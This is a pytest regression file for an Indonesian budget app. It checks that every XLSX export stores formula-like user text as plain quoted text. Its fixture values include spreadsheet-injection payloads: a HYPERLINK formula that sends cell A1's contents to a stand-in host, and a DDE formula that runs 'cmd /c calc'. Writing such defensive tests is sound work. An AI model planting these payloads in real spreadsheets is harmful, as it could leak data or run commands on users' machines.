"""Every XLSX the app produces (issue 11, item 8): user text that a spreadsheet would run as a
formula (`= + - @`, or led by a tab or CR) is stored as text, never as a formula cell, and reads
back exactly as typed; numbers stay numbers. The exports are found from the routes: a new
endpoint that answers with an XLSX, or a new module that builds a Workbook without the shared
writer, fails this file until it is covered."""
import inspect
import io
import re
from decimal import Decimal
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from models import FundingSource, SubActivity, db

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
ROOT = Path(__file__).resolve().parents[2]
YEAR = 2061

HOSTILE = {
    "opd_name": '=HYPERLINK("http://contoh.invalid/?d="&A1,"klik")',
    "opd_code": "=1+1",
    "opd_short": "+Dinsos",
    "sa_name": "+SUM(1;2) sub kegiatan",
    "program_name": "-2+3 program",
    "activity_name": "@SUM(A1:A2) kegiatan",
    "tag_description": "\t=1+2 aktivitas",
    "village_name": "=DDE(\"cmd\";\"/c calc\";\"x\")",
    "funding_code": "@FS",
    "funding_name": "=1+2 sumber",
    "sa_location": "-lokasi",
}

# Every endpoint that can answer with an XLSX, and how this file asks it for one.
XLSX_ENDPOINTS = {"budget.import_template", "review.compliance", "reports.index",
                  "reports.build_file", "api_reports.get_file",
                  # the table pages' "Unduh XLSX" (issue 13): same URL with ?format=xlsx
                  "dashboard.index", "dashboard.anomalies", "lokus.index", "review.queue",
                  "budget.index",
                  "federation.report",  # issue 18: the governor's report (province mode)
                  "federation.dashboard", "federation.compliance",  # issue 18, ?format=xlsx
                  "setup.template",  # issue 15: the set-up templates
                  "audit.index",  # issue 15: the audit log
                  "budget_stages.index",  # issue 15: APBD murni and perubahan
                  # issue 17: other sources, themes (KLASIK), frameworks, ?format=xlsx
                  "convergence.interventions_list", "convergence.themes_index",
                  "convergence.frameworks_index",
                  "coverage.index", "coverage.unreached"}  # issue 16, ?format=xlsx
# Endpoints that send a file that is never an XLSX (checked the same way).
OTHER_FILE_ENDPOINTS = {"static", "api-docs.openapi_json",
                        "federation.export",  # issue 18: a signed JSON bundle
                        "federation.report_pdf",  # issue 18: a kabupaten's report PDF
                        "realization.download_evidence",  # PDF, PNG or JPEG only
                        "api_evidence_files.get_evidence_file"}  # the same, by the API


@pytest.fixture
def hostile(make):
    fy = make.fiscal_year(YEAR)
    opd = make.opd(name=HOSTILE["opd_name"], code=HOSTILE["opd_code"],
                   short_name=HOSTILE["opd_short"])
    funding = FundingSource(code=HOSTILE["funding_code"], name=HOSTILE["funding_name"])
    db.session.add(funding)
    db.session.flush()
    sa = make.sub_activity(opd, fy, "900000000", name=HOSTILE["sa_name"],
                           program_name=HOSTILE["program_name"],
                           activity_name=HOSTILE["activity_name"], funding_source=funding,
                           location=HOSTILE["sa_location"])
    tag = make.tag(sa, "300000000", description=HOSTILE["tag_description"])
    village = make.village(fy=fy, priority=True, desil1=40)
    village.name = HOSTILE["village_name"]
    make.tag_village(tag, village)
    for n in (1, 2, 3):
        # TW III is flagged, so the anomaly list has a row with the hostile names.
        make.realization(tag, make.quarter(fy, n), str(50000000 * n), progress="30", reached=5,
                         anomalies="over_target" if n == 3 else "")
        make.submission(opd, make.quarter(fy, n), "verified")
    db.session.flush()
    return opd


def _cells(data: bytes):
    wb = load_workbook(io.BytesIO(data))
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            yield from row


def _check(data: bytes, expected: set[str], label: str) -> list:
    cells = list(_cells(data))
    formulas = [(c.parent.title, c.coordinate, c.value) for c in cells if c.data_type == "f"]
    assert not formulas, (label, formulas)
    texts = {c.value for c in cells if isinstance(c.value, str)}
    for key in expected:
        assert HOSTILE[key] in texts, (label, key, HOSTILE[key])
    for c in cells:
        if isinstance(c.value, str) and c.value.startswith(("=", "+", "-", "@", "\t", "\r")):
            assert c.data_type == "s" and c.quotePrefix, (label, c.coordinate, c.value)
    return cells


def _exports(client, make, login, opd):
    """(label, response, hostile keys its sheets must show) for every XLSX the app makes."""
    login(make.user("opd", opd_obj=opd))
    yield ("import template", client.get("/sub-kegiatan/impor/templat"),
           {"funding_code", "funding_name"})
    yield ("sub kegiatan list", client.get(f"/sub-kegiatan/?tahun={YEAR}&format=xlsx"),
           {"sa_name"})
    yield ("dashboard", client.get(f"/dasbor/?tahun={YEAR}&triwulan=3&format=xlsx"),
           {"opd_name", "opd_code", "funding_code", "sa_name"})
    yield ("anomaly list", client.get(f"/dasbor/anomali?tahun={YEAR}&format=xlsx"),
           {"opd_name", "opd_code", "sa_name", "tag_description"})
    login(make.user("admin"))  # issue 15: the users template lists the OPD codes
    from app.core import audit  # issue 15: the audit log shows a note as typed

    audit.record("update", "opd", opd.id, new={"name": HOSTILE["opd_name"]},
                 note=HOSTILE["sa_name"], opd_id=opd.id)
    yield ("audit log", client.get("/admin/audit/?format=xlsx"), {"sa_name"})
    hostile_sa = db.session.scalar(select(SubActivity).where(SubActivity.opd_id == opd.id))
    hostile_sa.allocation_revised = Decimal("950000000")
    db.session.flush()
    yield ("murni perubahan", client.get(f"/perubahan-apbd/?tahun={YEAR}&format=xlsx"),
           {"opd_name", "opd_code", "sa_name"})
    yield ("setup users template", client.get("/admin/penyiapan/templat/pengguna"),
           {"opd_name", "opd_code"})
    login(make.user("secretariat"))
    yield ("review queue", client.get(f"/verifikasi/?tahun={YEAR}&triwulan=3&format=xlsx"),
           {"opd_name", "opd_code"})
    yield ("lokus desa", client.get(f"/lokus/?tahun={YEAR}&triwulan=3&format=xlsx"),
           {"village_name"})
    yield ("compliance board", client.get(f"/verifikasi/kepatuhan?tahun={YEAR}&format=xlsx"),
           {"opd_name", "opd_code"})
    yield from _convergence_exports(client, opd)  # issue 17
    yield from _coverage_exports(client, opd)  # issue 16
    base = {"fmt": "xlsx", "year": YEAR, "quarter": 3, "semester": 1, "number": "=1+1",
            "include_unverified": "y"}
    report_keys = {"opd_name", "sa_name", "program_name", "activity_name", "tag_description"}
    for variant, opd_id in (("quarterly", 0), ("semester", 0), ("plan", 0), ("opd", opd.id)):
        yield (f"report {variant}",
               client.post("/laporan/", data={**base, "variant": variant, "opd_id": opd_id}),
               report_keys | ({"village_name"} if variant != "opd" else set()))
    # The API's background build: built here by the job function itself, fetched by token.
    from app.accounts.api_tokens import create_token
    from app.reports.build_service import request_build, run_build

    user = make.user("secretariat")
    build, _ = request_build("xlsx", user=user, year=YEAR, variant="quarterly", quarter=3,
                             include_unverified=True, number="=1+1")
    run_build(build.id)
    _, secret = create_token(user, "uji xlsx")
    yield ("api report build", client.get(f"/api/v1/reports/{build.id}/file",
                                          headers={"Authorization": f"Bearer {secret}"}),
           report_keys | {"village_name"})
    login(user)
    yield ("report build file", client.get(f"/laporan/bangun/{build.id}/berkas"),
           report_keys | {"village_name"})


def _convergence_exports(client, opd):
    """Issue 17: an intervention at the hostile desa by a hostile provider, the hostile tag in
    two themes (the KLASIK sheet lists its activity), and the Permendagri rollup."""
    from app.budget.services import themes
    from app.reference.convergence import default_theme
    from models import OtherIntervention, Strategy, Tag, TagTheme, TagVillage

    tag = db.session.scalar(select(Tag).join(SubActivity).where(SubActivity.opd_id == opd.id))
    village_id = db.session.scalar(select(TagVillage.village_id).where(
        TagVillage.tag_id == tag.id))
    fy_id = db.session.scalar(select(SubActivity.fiscal_year_id).where(
        SubActivity.id == tag.sub_activity_id))
    db.session.add(OtherIntervention(
        fiscal_year_id=fy_id, village_id=village_id, source_kind="csr",
        provider_name=HOSTILE["funding_name"], description=HOSTILE["sa_location"],
        strategy_id=db.session.scalar(select(Strategy.id).where(Strategy.code == 1)),
        amount_planned=Decimal("2500000")))
    for theme in (default_theme(), themes.create_theme("Stunting")):
        if db.session.scalar(select(TagTheme.id).where(TagTheme.tag_id == tag.id,
                                                       TagTheme.theme_id == theme.id)) is None:
            db.session.add(TagTheme(tag_id=tag.id, theme_id=theme.id))
    db.session.flush()
    yield ("other sources", client.get(f"/konvergensi/intervensi?tahun={YEAR}&triwulan=3"
                                       "&format=xlsx"),
           {"village_name", "funding_name", "sa_location"})
    yield ("themes", client.get(f"/konvergensi/tema?tahun={YEAR}&triwulan=3&format=xlsx"),
           {"tag_description"})
    yield ("frameworks", client.get(f"/konvergensi/kerangka?tahun={YEAR}&triwulan=3"
                                    "&kerangka=permendagri_53_2020&format=xlsx"), set())


def _coverage_exports(client, opd):
    """Issue 16: a BNBA snapshot with an unreached desil-1 household in the hostile desa."""
    from datetime import date

    from models import Household, HouseholdSnapshot, SnapshotVillageCount, Tag, TagVillage

    village_id = db.session.scalar(select(TagVillage.village_id).join(
        Tag, Tag.id == TagVillage.tag_id).join(SubActivity).where(SubActivity.opd_id == opd.id))
    snap = HouseholdSnapshot(taken_on=date(YEAR, 1, 31), source="DTSEN", rows=1, members=1,
                             households=1, desil1_households=1, key_check="0" * 16)
    db.session.add(snap)
    db.session.flush()
    db.session.add_all([Household(hash=bytes(range(32)), village_id=village_id, desil=1,
                                  snapshot_id=snap.id),
                        SnapshotVillageCount(snapshot_id=snap.id, village_id=village_id,
                                             desil=1, households=1)])
    db.session.flush()
    yield ("coverage", client.get(f"/cakupan/?tahun={YEAR}&triwulan=3&format=xlsx"),
           {"village_name"})
    yield ("coverage unreached", client.get(f"/cakupan/belum-terjangkau?tahun={YEAR}"
                                            "&triwulan=3&format=xlsx"), {"village_name"})


def test_every_export_stores_hostile_text_as_text(client, make, login, hostile):
    seen = set()
    for label, resp, keys in _exports(client, make, login, hostile):
        assert resp.status_code == 200, (label, resp.get_data(as_text=True)[:300])
        assert resp.mimetype == XLSX, label
        cells = _check(resp.data, keys, label)
        seen.add(label)
        if label.startswith(("compliance", "report")):
            # Numbers stay numbers: the tagged amount is a numeric cell, not text.
            numbers = [c.value for c in cells if isinstance(c.value, (int, float))
                       and not isinstance(c.value, bool)]
            assert any(Decimal(str(v)) == Decimal("300000000") for v in numbers), label
    assert len(seen) == 21


def test_compliance_board_no_longer_writes_the_opd_name_as_a_formula(client, make, login,
                                                                       hostile):
    login(make.user("secretariat"))
    resp = client.get(f"/verifikasi/kepatuhan?tahun={YEAR}&format=xlsx")
    ws = load_workbook(io.BytesIO(resp.data)).active
    name = next(c for row in ws.iter_rows() for c in row if c.value == HOSTILE["opd_name"])
    assert name.data_type == "s" and name.quotePrefix


def test_writer_keeps_numbers_and_replaces_characters_xlsx_cannot_hold():
    from openpyxl import Workbook

    from app.core import xlsx_writer

    wb = Workbook()
    ws = wb.active
    xlsx_writer.append_row(ws, [Decimal("-1250000.50"), -3, "-", "a\x01b", "=A1", None])
    ws["A2"] = "=SUM(A1)"  # written around the helper: the last sweep still neutralises it
    cells = list(_cells(xlsx_writer.to_bytes(wb)))
    by = {c.coordinate: c for c in cells}
    assert by["A1"].data_type == "n" and by["A1"].value == -1250000.5
    assert by["B1"].value == -3 and by["B1"].data_type == "n"
    assert by["C1"].value == "-" and by["C1"].data_type == "s"
    assert by["D1"].value == "a\ufffdb"
    assert by["E1"].value == "=A1" and by["E1"].data_type == "s"
    assert by["A2"].value == "=SUM(A1)" and by["A2"].data_type == "s" and by["A2"].quotePrefix


def _view_source(app, endpoint) -> str:
    func = inspect.unwrap(app.view_functions[endpoint])
    return inspect.getsource(func)


def test_every_file_sending_endpoint_is_classified(app):
    """A view that sends a file must be listed here: as an XLSX export (and then walked by
    the test above) or as a file that is never an XLSX."""
    senders = {rule.endpoint for rule in app.url_map.iter_rules()
               if rule.endpoint != "static"
               and re.search(r"send_file|send_from_directory|mimetype=|spreadsheetml",
                             _view_source(app, rule.endpoint))}
    assert senders <= XLSX_ENDPOINTS | OTHER_FILE_ENDPOINTS, senders - XLSX_ENDPOINTS
    # A listed export that no longer exists: update the list.
    assert XLSX_ENDPOINTS <= set(app.view_functions)


@pytest.mark.parametrize("role", ["opd", "secretariat", "viewer", "admin"])
def test_no_unlisted_get_route_answers_with_an_xlsx(app, client, make, login, role, hostile):
    """Every GET route without path arguments, plain and with ?format=xlsx, as each role."""
    login(make.user(role, opd_obj=hostile if role == "opd" else None))
    tried = 0
    for rule in app.url_map.iter_rules():
        if "GET" not in rule.methods or rule.arguments or rule.endpoint == "static":
            continue
        for query in ("", f"?format=xlsx&tahun={YEAR}"):
            resp = client.get(rule.rule + query)
            tried += 1
            assert resp.status_code < 500, (rule.rule, query)
            if resp.mimetype == XLSX:
                assert rule.endpoint in XLSX_ENDPOINTS, rule.endpoint
                _check(resp.data, set(), rule.endpoint)
            resp.close()
    assert tried > 40


def test_every_workbook_is_saved_through_the_shared_writer():
    """No module builds a Workbook and saves it by itself."""
    offenders = []
    for path in [*ROOT.joinpath("app").rglob("*.py"), *ROOT.joinpath("reports").rglob("*.py")]:
        text = path.read_text(encoding="utf-8")
        if "Workbook(" in text and ("xlsx_writer.to_bytes" not in text
                                    or re.search(r"\bwb\.save\(|\.save\(\w*buf", text)):
            offenders.append(str(path.relative_to(ROOT)))
    assert not offenders, offenders
